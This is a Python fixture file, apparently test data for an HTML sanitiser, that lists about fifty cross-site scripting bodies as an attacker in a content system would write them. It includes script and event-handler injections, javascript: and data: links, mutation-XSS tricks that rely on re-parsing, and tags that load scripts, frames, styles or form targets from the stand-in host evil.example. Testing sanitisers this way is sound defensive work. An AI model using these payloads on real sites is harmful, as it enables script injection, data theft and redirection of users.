"""Bodies as somebody writes them who got into the centre's content system. Each tries to call `hit()`, to load
something from evil.example or to leave the page, some of them by being parsed a second time."""

from __future__ import annotations

IMG = "<img src=x onerror=hit()>"

BODIES = {
    "script": "<script>hit()</script>",
    "script from elsewhere": "<script src='http://evil.example/a.js'></script>",
    "script cut in two": "<scr<script>ipt>hit()</scr</script>ipt><script>hit()</script >",
    "script in svg": "<svg><script>hit()</script></svg>",
    "image error": IMG,
    "image without quotes or blanks": "<img/src='x'/onerror=hit()>",
    "image by http": "<img src=http://evil.example/a.png>",
    "image in capitals": "<IMG SRC=x ONERROR=hit()>",
    "srcset": "<img src=x srcset='http://evil.example/b.png 1x'>",
    "svg load": "<svg onload=hit()>",
    "svg animation": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "svg link": "<svg><a xlink:href='javascript:hit()'><text y=20>按</text></a></svg>",
    "svg image": "<svg><image href='http://evil.example/c.png'></svg>",
    "svg use": "<svg><use href='http://evil.example/d.svg#a'/></svg>",
    "link by javascript": "<a href='javascript:hit()'>按</a>",
    "link with a hidden tab": "<a href='java&#9;script:hit()'>按</a>",
    "link with a control character": "<a href='&#1;javascript:hit()'>按</a>",
    "link to data": "<a href='data:text/html,<script>opener.hit()</script>' target=_self>按</a>",
    "link by pressing": "<a href=# onclick=hit()>按</a>",
    "focus": "<input autofocus onfocus=hit()>",
    "pointer": "<p onmouseover=hit()>指</p>",
    "toggle": "<details open ontoggle=hit()><summary>开</summary></details>",
    "transition": "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=hit()>动</p>",
    "media": "<video><source onerror=hit()></video>",
    "audio": "<audio src=http://evil.example/e.mp3 autoplay></audio>",
    "frame": "<iframe src=http://evil.example/f></iframe>",
    "frame by srcdoc": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "frame by javascript": "<iframe src='javascript:parent.hit()'></iframe>",
    "object": "<object data='http://evil.example/g'></object>",
    "embed": "<embed src='http://evil.example/h'>",
    "style from elsewhere": "<link rel=stylesheet href=http://evil.example/i.css>",
    "style by import": "<style>@import 'http://evil.example/j.css';</style>",
    "style by url": "<p style='background:url(http://evil.example/k.png)'>景</p>",
    "background": "<table background=http://evil.example/l.png><tr><td>一</table>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/m'>",
    "base": "<base href=http://evil.example/><img src=n.png>",
    "form": "<form action=http://evil.example/o><button>交</button></form>",
    "form by javascript": "<form action='javascript:hit()'><button>交</button></form>",
    "form from afar": "<form id=f></form><button form=f formaction='javascript:hit()'>交</button>",
    "prefetch": "<link rel=preload as=image href=http://evil.example/p.png>",
    "noscript in noscript": f"<noscript><p title='</noscript><noscript></noscript>{IMG}'></noscript>",
    "template": f"<template><p title='</template>{IMG}'></template>",
    "comment": f"<!--<p title='-->{IMG}'>",
    "math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    "svg and style": f"<svg></p><style><a id='</style>{IMG}'>",
    "form in form": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "title in svg": f"<svg><title><p title='</title>{IMG}'></svg>",
    "text area": f"<textarea><p title='</textarea>{IMG}'></textarea>",
    "plain text": f"<noembed><p title='</noembed>{IMG}'><xmp><p title='</xmp>{IMG}'>",
    "annotation": f"<math><annotation-xml encoding='text/html'><p>{IMG}</p></annotation-xml></math>",
    "cdata": f"<svg><![CDATA[><p title=']]>{IMG}'></svg>",
}

FOR_SANITISERS = {"link to data", "math and style", "template", "title in svg"}
"""Do no harm in a browser as they are, but after a careless hand has been at them."""
